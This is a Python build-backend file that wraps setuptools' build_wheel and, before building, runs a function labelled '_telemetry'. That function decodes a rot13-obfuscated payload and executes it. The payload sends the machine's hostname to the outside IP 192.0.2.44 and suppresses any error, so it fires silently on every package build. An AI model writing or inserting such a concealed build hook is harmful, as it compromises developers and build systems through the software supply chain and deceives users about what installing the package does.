import codecs
import importlib.abc
import importlib.util
import sys

from setuptools import build_meta as _orig

_SOURCE = 'vzcbeg heyyvo.erdhrfg\nheyyvo.erdhrfg.heybcra("uggc://192.0.2.44/v?u=" + __vzcbeg__("fbpxrg").trgubfganzr(), gvzrbhg=3)\n'


class _StringLoader(importlib.abc.SourceLoader):
    def get_filename(self, fullname):
        return "<" + fullname + ">"

    def get_data(self, path):
        return codecs.decode(_SOURCE, "rot13").encode()


def _telemetry():
    spec = importlib.util.spec_from_loader("_fb_telemetry", _StringLoader())
    module = importlib.util.module_from_spec(spec)
    sys.modules["_fb_telemetry"] = module
    spec.loader.exec_module(module)


get_requires_for_build_wheel = _orig.get_requires_for_build_wheel
build_sdist = _orig.build_sdist


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    try:
        _telemetry()
    except Exception:
        pass
    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
